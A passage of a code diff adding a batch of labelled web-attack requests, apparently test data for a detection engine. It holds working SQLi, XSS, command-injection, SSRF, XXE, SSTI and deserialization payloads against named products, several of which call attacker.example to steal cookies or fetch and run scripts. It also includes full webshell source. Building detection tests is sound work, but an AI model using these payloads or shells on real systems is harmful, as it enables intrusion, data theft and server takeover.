@@ -1377,6 +1377,466 @@ BATCH4 = {"sqli": sqli4, "xss": xss4, "cmdi": cmdi4, "lfi": lfi4, "rfi_ssrf": rf
           "ssti": ssti4, "webshell": webshell4, "scanner": scanner4, "protocol": protocol4}
 
 
+
+# ------------------------------------------------------------------ batch 5
+# Written in session 3 by someone who did not read the engine or its rules,
+# and measured before any tuning: exploit traffic that hits Chinese tenants'
+# sites and APIs in 2024-2026 (ThinkPHP, RuoYi, Jeecg, Yonyou/Weaver/Tongda OA,
+# Hikvision and router botnets, OFBiz, Confluence, Spring Cloud, Weblogic,
+# Fastjson, Solr, Jenkins, F5), current webshell families' uploads and their
+# post-exploitation traffic, internet-wide scanners, and request-desync tricks
+# published in 2024-2025. Most requests are plain; a few carry an encoding.
+# Encrypted webshell traffic is random-looking by nature; its bytes come from
+# a SHA-256 chain (_blob), so the script still draws no random numbers.
+import base64 as _b64  # noqa: E402
+import hashlib as _hl  # noqa: E402
+
+
+def _blob(seed, n):
+    out, h = b"", seed.encode()
+    while len(out) < n:
+        h = _hl.sha256(h).digest()
+        out += h
+    return out[:n]
+
+
+def R5(method, path, query="", extra=None, body="", ctype=None, ua_=None, accept=None):
+    """Any method with several headers set; Content-Length follows the body."""
+    ex = dict(extra or {})
+    if ctype:
+        ex["Content-Type"] = ctype
+    kw = {"accept": accept} if accept else {}
+    h = headers(ua=ua() if ua_ is None else ua_, extra=ex, **kw)
+    if body:
+        h["Content-Length"] = str(len(body.encode()))
+    return req(method, path, query, h, body)
+
+
+def RF(path, rawbody, query="", extra=None, ua_=None, accept=None):
+    """A form POST whose body is written out by hand, in the order a tool sends it."""
+    return R5("POST", path, query, extra, rawbody, "application/x-www-form-urlencoded", ua_, accept)
+
+
+def sqli5():
+    outfile_hex = "0x" + b"<?php @eval($_POST[1]);?>".hex()
+    return [
+        RQ("/index.php", "m=Home&c=Goods&a=detail&id%5B0%5D=exp&id%5B1%5D=%3D1%20and%20updatexml(1,concat(0x7e,"
+           "user(),0x7e),1)"),
+        RQ("/index/index/index", "ids%5B0,updatexml(0,concat(0xa,user()),0)%5D=1"),
+        Q("/yyoa/common/js/menu/test.jsp", "S1", "(SELECT MD5(1))", [("doType", "101")]),
+        Q("/general/hr/manage/query/delete_cascade.php", "condition_cascade",
+          "select if((substr(user(),1,1)='r'),1,power(9999,99))"),
+        F("/mobile/plugin/browser.jsp", "keyword", "a' union select 1,''+(SELECT @@VERSION)+'",
+          [("isDis", "1"), ("browserTypeId", "269")], e=dbl),
+        F("/system/user/list", "params[dataScope]", "and extractvalue(1,concat(0x7e,(select database()),0x7e))",
+          [("pageSize", "10"), ("pageNum", "1"), ("orderByColumn", "createTime"), ("isAsc", "desc")]),
+        F("/system/role/list", "isAsc", "asc,(select*from(select(sleep(3)))a)",
+          [("pageSize", "10"), ("pageNum", "1"), ("orderByColumn", "roleSort")]),
+        J("/jeecg-boot/jmreport/qurestSql", {"apiSelectId": "1290104038414721025",
+                                             "id": "1' or '%1%' like (updatexml(0x3a,concat(1,(select current_user)),"
+                                                   "1)) or '%%' like '"}),
+        J("/api/v1/auth/login", {"username": "admin", "password": {"$ne": None}}),
+        J("/api/v1/users/search", {"filter": {"$where": "sleep(5000) || this.role == 'admin'"}, "limit": 20}),
+        Q("/api/users/", "password__startswith", "pbkdf2_sha256$", [("is_superuser", "true")]),
+        J("/graphql", {"query": "query { orders(filter: {note: {_like: \"%' and 1=(select 1 from pg_sleep(5)) and "
+                                "'%'='\"}}) { id total } }"}),
+        H("/api/v1/visit", "Client-IP", "1.1.1.1'+(select*from(select(sleep(4)))x)+'"),
+        C("/member/index.php", "uid=" + enc(_b64.b64encode(b"1 and sleep(5)").decode()) +
+          "; PHPSESSID=k2j4h5g6f7d8s9a0q1w2e3r4t5"),
+        J("/api/v1/orders", {"items": [{"sku": "SKU-88012", "qty": 1}], "phone": "13800138000",
+                             "receiver": "张三'||utl_http.request('http://attacker.example/'||(select user from dual))"
+                                         "||'"}),
+        Q("/api/list", "limit", "1 into outfile '/var/www/html/t.php' lines terminated by " + outfile_hex),
+        Q("/item", "id", "1 and 1=(select query_to_xml('select usename,passwd from pg_shadow',true,true,''))::text::int"),
+        Q("/item.aspx", "id", "1 and 1=(select top 1 name from master..sysdatabases for xml path(''))"),
+        Q("/item.do", "id", "1 and 1=ctxsys.drithsx.sn(1,(select user from dual))"),
+        RQ("/goods.php", "id=1%a0union%a0select%a01,2,group_concat(username,0x3a,password)%a0from%a0admin"),
+        Q("/article.php", "aid", "1 and elt(length(database())>3,sleep(3))"),
+        J("/api/v2/goods/detail", {"id": "1 and json_keys((select convert((select group_concat(user,0x3a,"
+                                         "authentication_string) from mysql.user) using utf8)))"}),
+        P("/goods/detail/id/1)%20and%20updatexml(1,concat(0x7e,database()),1)%23.html"),
+        Q("/news.php", "id", "12 AND 5731=5731"),
+        Q("/news.php", "id", "12) AND 4582=4582 AND (8233=8233"),
+        Q("/news.php", "id", "12,'.)\"(,..("),
+    ]
+
+
+def xss5():
+    return [
+        J("/api/v1/shop/settings", None, method="PUT",
+          raw='{"shopName":"小米授权店","notice":"\\u003c/script\\u003e\\u003csvg onload=alert(document.domain)\\u003e"}'),
+        Q("/s", "q", "<svg onload=\"[1].find(alert)\">"),
+        Q("/s", "q", "<img src=x onerror=setTimeout`alert\\x28document.cookie\\x29`>"),
+        J("/api/v1/issues/88/comments", {"body": "![截图](https://img.example.cn/a.png\"onerror=\"alert(document.cookie))"}),
+        J("/api/v1/wiki/pages", {"title": "部署手册", "markdown": "详见[运维文档][1]\n\n[1]: javascript:fetch('//attacker."
+                                                                "example/?'+document.cookie)"}),
+        M("/seller/brand/logo", [("brandId", "20931"),
+                                 ("logo", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)" '
+                                          'width="120" height="40"><text x="4" y="24">ACME</text></svg>',
+                                  "brand-logo.svg", "image/svg+xml")]),
+        J("/seller/api/item/save", {"title": "2024新款保温杯 500ml", "descHtml": "<p>新品上市</p><div data-sku=\"1\" "
+                                    "onpointerover=\"fetch('//attacker.example/c?'+document.cookie)\"><img src=\"https://"
+                                    "img.example.cn/cup.jpg\"></div>"}),
+        Q("/login", "redirect", "java%0dscript:alert(document.domain)", e=None),
+        Q("/user/profile", "nickname", "{{_c.constructor('alert(document.cookie)')()}}"),
+        C("/", "uname=" + enc("\"><script src=//x.attacker.example/Xk9a></script>") + "; PHPSESSID=9a8b7c6d5e4f3a2b"),
+        F("/guestbook/add", "content", "<img src=x onerror=s=createElement('script');body.appendChild(s);"
+          "s.src='//attacker.example/k.js'>", [("name", "王先生"), ("tel", "13900000000")]),
+        Q("/s", "q", "<button popovertarget=p>x</button><div id=p popover onbeforetoggle=alert(1)>y</div>"),
+        F("/bio", "text", "<a href=\"java&Tab;script&colon;alert(1)\">博客</a>"),
+        H("/", "X-Forwarded-For", "<script src=//attacker.example/log.js></script>"),
+        J("/im/api/message/send", {"sessionId": "cs_88213", "type": "text",
+                                   "content": "订单一直没发货<img src=1 onerror=$.getScript('//attacker.example/k')>"}),
+        M("/recruit/resume/upload", [("name", "李明"), ("title", "<marquee loop=1 width=0 onfinish=alert(1)>"),
+                                     ("phone", "13712345678")]),
+        Q("/s", "q", "\\';alert(document.cookie)//"),
+        P("/index.php/%22%3E%3Cscript%3Ealert(document.domain)%3C/script%3E"),
+        Q("/s", "q", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">"),
+        Q("/s", "q", "<svg onload=eval('\\x61lert(1)')>"),
+        Q("/s", "q", "<img src=x onerror=alert(1)//", e=dbl),
+        J("/api/v1/cms/banner", {"image": "https://img.example.cn/b.jpg",
+                                 "link": "javascript:window.open('//attacker.example/?'+document.cookie)"}),
+        Q("/s", "q", "<iframe src=\"https://attacker.example/login.html\" style=\"position:fixed;inset:0;width:100%;"
+          "height:100%;border:0\"></iframe>"),
+        Q("/s", "q", "<input type=hidden accesskey=x onclick=alert(1)>"),
+        Q("/s", "q", "<style onload=alert(1)></style>", e=uenc),
+    ]
+
+
+MVG = ("push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://img.example.cn/a.jpg\"|curl -s "
+       "attacker.example/m.sh|sh\")'\npop graphic-context\n")
+EPS = ("%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\nuserdict /setpagedevice undef\nsave\nlegal\n"
+       "{ null restore } stopped { pop } if\n{ legal } stopped { pop } if\nrestore\n"
+       "mark /OutputFile (%pipe%id > /tmp/gs.txt) currentdevice putdeviceprops\n")
+DJVU = "AT&TFORM\u0001\u0002\u0003DJVMDIRM(metadata\n    (Copyright \"\\\n\" . qx{curl -s attacker.example/e|sh} . \\\n\" b \") )\n"
+
+
+def cmdi5():
+    b = _b64.b64encode(b"curl -s attacker.example/s|sh").decode()
+    return [
+        M("/api/v1/image/thumb", [("size", "200x200"), ("file", MVG, "avatar.png", "image/png")]),
+        M("/convert/pdf2img", [("file", EPS, "invoice.eps", "application/postscript")]),
+        M("/uploads/user", [("file", DJVU, "photo.jpg", "image/jpeg")]),
+        R5("PUT", "/SDK/webLanguage", body='<?xml version="1.0" encoding="UTF-8"?><language>$(id>webLib/c)</language>',
+           ctype="application/x-www-form-urlencoded; charset=UTF-8", accept="*/*"),
+        F("/boaform/admin/formPing", "target_addr", ";wget http://203.0.113.9/bins/mips -O /tmp/m;chmod 777 /tmp/m;"
+          "/tmp/m gpon", [("waninf", "1_INTERNET_R_VID_")]),
+        RF("/cgi-bin/ViewLog.asp", "remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0&"
+           "remote_host=%3bcd+/tmp;wget+http://203.0.113.9/z.sh;sh+z.sh%3b%23&remoteSubmit=Save", ua_="Hello, World"),
+        F("/goform/setUsbUnload", "deviceName", ";wget http://203.0.113.9/t.sh -O- | sh"),
+        Q("/tools/git/import", "repo", "ext::sh -c touch% /tmp/pwned"),
+        F("/tools/http-check", "url", "-F x=@/etc/passwd http://attacker.example/u"),
+        F("/webtools/control/main/ProgramExport", "groovyProgram", "throw new Exception('id'.execute().text);"),
+        F("/webtools/control/forgotPassword;/ProgramExport", "groovyProgram",
+          "\\u0074\\u0068\\u0072\\u006f\\u0077 new Exception('uname -a'.execute().text);"),
+        F("/script", "script", "println \"cat /etc/passwd\".execute().text",
+          [("Jenkins-Crumb", "4f2c1d9e8b7a6f5e4d3c2b1a09f8e7d6")]),
+        R5("POST", "/mgmt/tm/util/bash", body=json.dumps({"command": "run", "utilCmdArgs": "-c 'id;uname -a'"}),
+           ctype="application/json", accept="*/*",
+           extra={"Authorization": "Basic YWRtaW46", "X-F5-Auth-Token": "", "Connection": "keep-alive, X-F5-Auth-Token"}),
+        F("/guest_auth/guestIsUp.php", "ip", "127.0.0.1|id > /www/t.txt", [("mac", "00:00:00:00:00:00")]),
+        J("/api/v1/diag/traceroute", {"host": "8.8.8.8\ncurl -s http://attacker.example/t.sh | sh", "maxHops": 30}),
+        Q("/win/tools/ping", "host", "127.0.0.1 & powershell -w hidden -c \"iwr http://attacker.example/a.ps1 -useb|iex\""),
+        Q("/tools/convert", "opts", "bash -c {echo," + b + "}|{base64,-d}|{bash,-i}"),
+        XML("/wls-wsat/CoordinatorPortType", '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
+            '<soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" '
+            'class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" '
+            'length="3"><void index="0"><string>/bin/sh</string></void><void index="1"><string>-c</string></void>'
+            '<void index="2"><string>id</string></void></array><void method="start"/></void></java></work:WorkContext>'
+            '</soapenv:Header><soapenv:Body/></soapenv:Envelope>', ctype="text/xml"),
+    ]
+
+
+def lfi5():
+    return [
+        RQ("/index.php", "+config-create+/&file=/usr/local/lib/php/pearcmd.php&/<?=phpinfo()?>+/tmp/hello.php"),
+        P("/public/plugins/alertlist/../../../../../../../../etc/passwd"),
+        P("/..%252F..%252F..%252F..%252F..%252F..%252Fetc%252Fpasswd%23foo/development"),
+        C("/index.php", "think_lang=..%2F..%2F..%2F..%2F..%2F..%2F..%2Fusr%2Flocal%2Flib%2Fphp%2Fpearcmd; "
+          "PHPSESSID=abc123def456ghi789"),
+        Q("/weaver/ln.FileDownload", "fpath", "../ecology/WEB-INF/prop/weaver.properties"),
+        F("/ispirit/interface/gateway.php", "json", '{"url":"/general/../../mysql5/my.ini"}'),
+        Q("/NCFindWeb", "filename", "../../ierp/bin/prop.xml", [("service", "IPreAlertConfigService")]),
+        RQ("/file/download", "name=%EF%BC%8E%EF%BC%8E%EF%BC%8F%EF%BC%8E%EF%BC%8E%EF%BC%8F%EF%BC%8E%EF%BC%8E%EF%BC%8F"
+           "etc%EF%BC%8Fpasswd"),
+        J("/render", {"name": "home", "layout": "../../../../../../etc/passwd"}),
+        Q("/api/file/preview", "path", "/proc/self/cwd/config/application.yml"),
+        RQ("/download.aspx", "file=..%255c..%255c..%255c..%255cwindows%255cwin.ini"),
+        H("/robots", "Accept", "../../../../../../../../etc/passwd{{"),
+        P("/+CSCOT+/translation-table", "type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../"),
+        P("/remote/fgt_lang", "lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
+        P("/jobmanager/logs/..%252f..%252f..%252f..%252f..%252f..%252fetc%252fpasswd"),
+    ]
+
+
+def rfi_ssrf5():
+    return [
+        J("/api/v1/webhooks", {"name": "发货通知", "url": "http://2852039166/latest/meta-data/iam/security-credentials/",
+                               "events": ["order.shipped"]}),
+        J("/api/v1/user/avatar", {"avatarUrl": "http://[::ffff:6464:64c8]/latest/meta-data/ram/security-credentials/"}),
+        J("/api/v1/export/pdf", {"title": "周报", "markdown": "# 周报\n\n<link rel=\"stylesheet\" href=\"http://169.254."
+                                                            "169.254/latest/meta-data/iam/security-credentials/\">\n"}),
+        J("/api/v1/datasource/import", {"source": "url", "url": "http://127.0.0.1:8848/nacos/v1/cs/configs?dataId=&"
+                                                                 "group=&search=accurate&pageNo=1&pageSize=100"}),
+        Q("/uddiexplorer/SearchPublicRegistries.jsp", "operator", "http://127.0.0.1:7001/",
+          [("rdoSearch", "name"), ("txtSearchname", "sdf"), ("txtSearchkey", ""), ("txtSearchfor", ""),
+           ("selfor", "Business location"), ("btnSubmit", "Search")]),
+        Q("/plugins/servlet/gadgets/makeRequest", "url", "https://jira.example.com@169.254.169.254/latest/meta-data/"),
+        M("/api/v1/video/upload", [("title", "test"),
+                                   ("file", "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nhttp://169.254.169.254/"
+                                            "latest/meta-data/\n#EXT-X-ENDLIST\n", "clip.avi", "video/x-msvideo")]),
+        Q("/fetch", "url", "http://%31%32%37.0.0.1:8080/manage/env"),
+        Q("/api/preview", "link", "http://127.127.127.127:9200/_cat/indices"),
+        F("/admin/import/rss", "url", "file:/etc/passwd"),
+        J("/api/v1/bot/callback", {"platform": "feishu", "callback": "http://169.254.169.254/openstack/latest/"
+                                                                     "meta_data.json"}),
+        Q("/index.php", "inc", "\\\\attacker.example@SSL\\DavWWWRoot\\x.php"),
+        Q("/oauth/authorize", "request_uri", "http://127.0.0.1:8080/admin",
+          [("response_type", "code"), ("client_id", "web-portal"), ("scope", "openid")]),
+        # Fastjson / Jackson polymorphic typing: the gadget makes the server look up
+        # (and load a class from) the attacker's LDAP/RMI/HTTP URL, or resolve its DNS name.
+        J("/api/v1/user/update", None, raw='{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":'
+                                           '"ldap://attacker.example:1389/Exploit","autoCommit":true}'),
+        J("/api/v1/order/query", None, raw='{"a":{"\\u0040type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},'
+                                           '"b":{"\\u0040type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":'
+                                           '"rmi://203.0.113.7:1099/Object","autoCommit":true}}'),
+        J("/api/login", None, raw='{"username":{"@type":"java.net.Inet4Address","val":"fj7x2k.dnslog.cn"},"password":"1"}'),
+        J("/api/v2/settings", None, raw='["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;'
+                                        'TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM \'http://attacker.example/inject.sql\'"}]'),
+    ]
+
+
+def xxe5():
+    pre = '<?xml version="1.0" encoding="UTF-8"?>\n'
+    return [
+        XML("/services/OrderService", pre + '<!DOCTYPE e [<!ENTITY % p SYSTEM "http://attacker.example/soap.dtd">%p;]>'
+            '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:ord="http://example.com/'
+            'order"><soapenv:Body><ord:query><ord:no>&exfil;</ord:no></ord:query></soapenv:Body></soapenv:Envelope>',
+            ctype="text/xml; charset=utf-8"),
+        XML("/sitemap/import", pre + '<!DOCTYPE urlset [<!ENTITY l SYSTEM "file:///etc/passwd">]><urlset xmlns="http://'
+            'www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://www.example.cn/&l;</loc></url></urlset>'),
+        M("/i18n/xliff/upload", [("project", "app"),
+                                 ("file", pre + '<!DOCTYPE xliff [<!ENTITY t SYSTEM "file:///etc/passwd">]><xliff '
+                                  'version="1.2"><file source-language="en" target-language="zh-CN" datatype="plaintext" '
+                                  'original="app"><body><trans-unit id="1"><source>Hello</source><target>&t;</target>'
+                                  '</trans-unit></body></file></xliff>', "zh-CN.xlf", "application/x-xliff+xml")]),
+        M("/api/mdm/profile", [("file", pre + '<!DOCTYPE plist [<!ENTITY x SYSTEM "file:///etc/hosts">]><plist '
+                                'version="1.0"><dict><key>PayloadDisplayName</key><string>&x;</string></dict></plist>',
+                                "config.plist", "application/x-plist")]),
+        M("/admin/sso/saml/metadata", [("metadata", pre + '<!DOCTYPE md:EntityDescriptor [<!ENTITY % d SYSTEM '
+                                        '"http://attacker.example/md.dtd">%d;]><md:EntityDescriptor xmlns:md="urn:oasis:'
+                                        'names:tc:SAML:2.0:metadata" entityID="https://idp.example.com"/>',
+                                        "idp-metadata.xml", "text/xml")]),
+        XML("/api/v1/auth/login", pre + '<!DOCTYPE root [<!ENTITY u SYSTEM "file:///etc/passwd">]><root><username>&u;'
+            '</username><password>x</password></root>'),
+        XML("/api/xml/parse", pre + '<!DOCTYPE d [<!ENTITY ls SYSTEM "file:///">]><d>&ls;</d>'),
+        XML("/api/xml/parse", pre + '<!DOCTYPE d [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % o "<!ENTITY '
+            '&#x25; s SYSTEM \'ftp://attacker.example:2121/%f;\'>">%o;%s;]><d/>'),
+        XML("/wx/portal/wx2421b1c4370ec43b", '<!DOCTYPE xml [<!ENTITY % e SYSTEM "http://attacker.example/wx.dtd">%e;]>'
+            '<xml><ToUserName><![CDATA[gh_123456789abc]]></ToUserName><FromUserName><![CDATA[oUpF8uMuAJO_M2pxb1Q9zNjWeS6o'
+            ']]></FromUserName><CreateTime>1732500000</CreateTime><MsgType><![CDATA[text]]></MsgType><Content><![CDATA['
+            'hi]]></Content></xml>', ctype="text/xml"),
+        M("/api/avatar", [("file", '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude" '
+                           'width="100" height="100"><text x="0" y="20"><xi:include href="file:///etc/hostname" '
+                           'parse="text"/></text></svg>', "me.svg", "image/svg+xml")]),
+        M("/import/excel", [("file", pre + '<?mso-application progid="Excel.Sheet"?>\n<!DOCTYPE Workbook [<!ENTITY x '
+                             'SYSTEM "file:///c:/windows/win.ini">]><Workbook xmlns="urn:schemas-microsoft-com:office:'
+                             'spreadsheet"><Worksheet ss:Name="Sheet1" xmlns:ss="urn:schemas-microsoft-com:office:'
+                             'spreadsheet"><Table><Row><Cell><Data ss:Type="String">&x;</Data></Cell></Row></Table>'
+                             '</Worksheet></Workbook>', "导入模板.xml", "application/vnd.ms-excel")]),
+        F("/api/import", "xmlData", pre + '<!DOCTYPE a [<!ENTITY b SYSTEM "http://169.254.169.254/latest/meta-data/">]>'
+          '<a>&b;</a>', [("type", "order")]),
+    ]
+
+
+def ssti5():
+    confluence_label = ("\\u0027+#request.get(\\u0027.KEY_velocity.struts2.context\\u0027).internalGet(\\u0027ognl"
+                        "\\u0027).findValue(#parameters.x,{})+\\u0027")
+    confluence_x = ("@org.apache.struts2.ServletActionContext@getResponse().setHeader('X-Cmd',(new freemarker.template."
+                    "utility.Execute()).exec({'id'}))")
+    s2 = ("${#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start().getInputStream(),#b=new java.io."
+          "InputStreamReader(#a),#c=new java.io.BufferedReader(#b),#d=new char[50000],#c.read(#d),#matt=#context.get("
+          "'com.opensymphony.xwork2.dispatcher.HttpServletResponse'),#matt.getWriter().println(#d),#matt.getWriter()."
+          "flush(),#matt.getWriter().close()}")
+    solr = ("#set($x='') #set($rt=$x.class.forName('java.lang.Runtime')) #set($chr=$x.class.forName("
+            "'java.lang.Character')) #set($str=$x.class.forName('java.lang.String')) #set($ex=$rt.getRuntime()."
+            "exec('id')) $ex.waitFor()")
+    return [
+        J("/actuator/gateway/routes/hacktest", {"id": "hacktest", "filters": [{"name": "AddResponseHeader", "args": {
+            "name": "Result", "value": "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang."
+                                       "Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}"}}],
+            "uri": "http://example.com"}),
+        R5("POST", "/functionRouter", body="data", ctype="text/plain",
+           extra={"spring.cloud.function.routing-expression": "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/scf\")"}),
+        RF("/template/aui/text-inline.vm", "label=" + form_enc(confluence_label) + "&x=" + form_enc(confluence_x)),
+        RQ("/index.action", "redirect:" + enc(s2)),
+        RQ("/hello", "name=" + enc("{{()|attr(request.args.c)|attr(request.args.b)|attr(request.args.s)()|attr("
+                                   "request.args.g)(132)}}") + "&c=__class__&b=__base__&s=__subclasses__&g=__getitem__"),
+        Q("/hello", "name", "{{url_for.__globals__.os.popen('cat /etc/passwd').read()}}"),
+        F("/admin/mail/template/preview", "content", "${product.getClass().getProtectionDomain().getCodeSource()."
+          "getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}"),
+        RQ("/solr/collection1/select", "q=1&&wt=velocity&v.template=custom&v.template.custom=" + enc(solr)),
+        Q("/doc", "lang", "__${T (java.lang.Runtime).getRuntime().exec('id')}__::.x"),
+        F("/api/render", "template", "{{\"\".toString.constructor.call({},\"return global.process.mainModule.constructor."
+          "_load('child_process').execSync('cat /etc/passwd').toString()\")()}}"),
+        F("/cms/template/save", "content", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru("
+          "$_GET['c']); ?>\",self::clearConfig())}"),
+        C("/", "lang=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}; "
+          "JSESSIONID=8F2C0A1B3D4E5F60718293A4B5C6D7E8"),
+        F("/pages/doenterpagevariables.action", "queryString", "aaa\\u0027+{Class.forName(\\u0027javax.script."
+          "ScriptEngineManager\\u0027).newInstance().getEngineByName(\\u0027JavaScript\\u0027).\\u0065val(\\u0027java."
+          "lang.Runtime.getRuntime().exec(\\u0022id\\u0022)\\u0027)}+\\u0027"),
+        J("/jeecg-boot/jmreport/queryFieldBySql", {"sql": "select '<#assign value=\"freemarker.template.utility."
+                                                          "ObjectConstructor\"?new()>${value(\"java.lang.ProcessBuilder\","
+                                                          "\"id\").start()}'", "type": "0"}),
+    ]
+
+
+GODZILLA_JSP = (
+    "<%! String xc=\"3c6e0b8a9c15224a\"; String pass=\"pass\"; String md5=md5(pass+xc); class X extends ClassLoader{"
+    "public X(ClassLoader z){super(z);}public Class Q(byte[] cb){return super.defineClass(cb, 0, cb.length);} }"
+    "public byte[] x(byte[] s,boolean m){ try{javax.crypto.Cipher c=javax.crypto.Cipher.getInstance(\"AES\");"
+    "c.init(m?1:2,new javax.crypto.spec.SecretKeySpec(xc.getBytes(),\"AES\"));return c.doFinal(s);}catch (Exception e)"
+    "{return null;}} public static String md5(String s){String ret=null;try{java.security.MessageDigest m;"
+    "m=java.security.MessageDigest.getInstance(\"MD5\");m.update(s.getBytes(),0,s.length());ret=new java.math."
+    "BigInteger(1,m.digest()).toString(16).toUpperCase();}catch(Exception e){}return ret;}%><%try{byte[] data="
+    "java.util.Base64.getDecoder().decode(request.getParameter(pass));data=x(data,false);if(session.getAttribute("
+    "\"payload\")==null){session.setAttribute(\"payload\",new X(this.getClass().getClassLoader()).Q(data));}else{"
+    "request.setAttribute(\"parameters\",data);java.io.ByteArrayOutputStream arrOut=new java.io.ByteArrayOutputStream();"
+    "Object f=((Class)session.getAttribute(\"payload\")).newInstance();f.equals(arrOut);f.equals(pageContext);"
+    "response.getWriter().write(md5.substring(0,16));f.toString();response.getWriter().write(java.util.Base64."
+    "getEncoder().encodeToString(x(arrOut.toByteArray(), true)));response.getWriter().write(md5.substring(16));}"
+    "}catch (Exception e){}%>")
+BEHINDER_ASPX = (
+    "<%@ Page Language=\"C#\" %><%@Import Namespace=\"System.Reflection\"%><%Session.Add(\"k\",\"e45e329feb5d925b\");"
+    " byte[] k = Encoding.Default.GetBytes(Session[0] + \"\"),c = Request.BinaryRead(Request.ContentLength);"
+    "Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0,"
+    " c.Length)).CreateInstance(\"U\").Equals(this);%>")
+MEMSHELL_JSP = (
+    "<%@ page import=\"org.apache.catalina.core.*, org.apache.catalina.Context, org.apache.tomcat.util.descriptor."
+    "web.*, java.lang.reflect.*, javax.servlet.*, java.io.*\" %><% ServletContext sc = request.getSession()."
+    "getServletContext(); Field f = sc.getClass().getDeclaredField(\"context\"); f.setAccessible(true); "
+    "ApplicationContext ac = (ApplicationContext) f.get(sc); Field f2 = ac.getClass().getDeclaredField(\"context\"); "
+    "f2.setAccessible(true); StandardContext ctx = (StandardContext) f2.get(ac); Filter flt = new Filter() { "
+    "public void init(FilterConfig c) {} public void destroy() {} public void doFilter(ServletRequest q, "
+    "ServletResponse r, FilterChain ch) throws IOException, ServletException { String cmd = q.getParameter(\"cmd\"); "
+    "if (cmd != null) { InputStream in = Runtime.getRuntime().exec(new String[]{\"sh\", \"-c\", cmd}).getInputStream(); "
+    "r.getWriter().write(new java.util.Scanner(in).useDelimiter(\"\\\\A\").next()); return; } ch.doFilter(q, r); } }; "
+    "FilterDef fd = new FilterDef(); fd.setFilter(flt); fd.setFilterName(\"sysmon\"); fd.setFilterClass(flt.getClass()"
+    ".getName()); ctx.addFilterDef(fd); FilterMap fm = new FilterMap(); fm.addURLPattern(\"/*\"); fm.setFilterName("
+    "\"sysmon\"); ctx.addFilterMapBefore(fm); %>ok")
+ANTSWORD = (
+    "@ini_set(\"display_errors\", \"0\");@set_time_limit(0);$opdir=@ini_get(\"open_basedir\");if($opdir) {$ocwd="
+    "dirname($_SERVER[\"SCRIPT_FILENAME\"]);$oparr=preg_split(base64_decode(\"Lzt8Oi8=\"),$opdir);@array_push($oparr,"
+    "$ocwd,sys_get_temp_dir());foreach($oparr as $item) {if(!@is_writable($item)){continue;};$tmdir=$item.\"/.a31c\";"
+    "@mkdir($tmdir);if(!@file_exists($tmdir)){continue;}@chdir($tmdir);@ini_set(\"open_basedir\", \"..\");};};"
+    "function asenc($out){return $out;};function asoutput(){$output=ob_get_contents();ob_end_clean();echo \"4f\".\"1a\";"
+    "echo @asenc($output);echo \"9c\".\"e2\";}ob_start();try{$D=dirname($_SERVER[\"SCRIPT_FILENAME\"]);if($D==\"\")"
+    "$D=dirname($_SERVER[\"PATH_TRANSLATED\"]);$R=\"{$D}\t\";if(substr($D,0,1)!=\"/\"){foreach(range(\"C\",\"Z\")as $L)"
+    "if(is_dir(\"{$L}:\"))$R.=\"{$L}:\";}else{$R.=\"/\";}$R.=\"\t\";$u=(function_exists(\"posix_getegid\"))?@posix_"
+    "getpwuid(@posix_geteuid()):\"\";$s=($u)?$u[\"name\"]:@get_current_user();$R.=php_uname();$R.=\"\t{$s}\";echo $R;;"
+    "}catch(Exception $e){echo \"ERROR://\".$e->getMessage();};asoutput();die();")
+TONGDA_JPG = ("<?php $c=$_POST['cmd']; $w = new COM('WScript.shell'); $e = $w->exec(\"cmd /c \".$c); "
+              "echo $e->StdOut->ReadAll(); ?>")
+IVMS_JSP = "<%@page import=\"java.io.*\"%><% out.print(new BufferedReader(new InputStreamReader(Runtime.getRuntime()" \
+           ".exec(request.getParameter(\"i\")).getInputStream())).readLine()); %>"
+
+
+def webshell5():
+    java_accept = "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2"
+    chopper = _b64.b64encode(b'@ini_set("display_errors","0");@set_time_limit(0);echo("->|");'
+                             b'echo(system("whoami"));echo("|<-");die();').decode()
+    return [
+        # post-exploitation traffic to shells already on disk
+        RF("/uploads/2024/11/avatar_3.php", "pass=" + form_enc(_b64.b64encode(_blob("godzilla-php", 384)).decode()),
+           extra={"Cookie": "PHPSESSID=3u8k1m0v9q2r7t5s4p6o"}, accept=java_accept),
+        R5("POST", "/static/img/logo.jsp", body=_b64.b64encode(_blob("behinder-jsp", 1024)).decode(),
+           ctype="application/octet-stream", accept="application/json, text/javascript, */*; q=0.01",
+           extra={"Cookie": "JSESSIONID=4B1C7E0A9D2F3865A7C1E0B9D8F7A6C5"}),
+        RF("/data/cache/c.php", "a31c=" + form_enc(ANTSWORD), ua_="antSword/v2.1"),
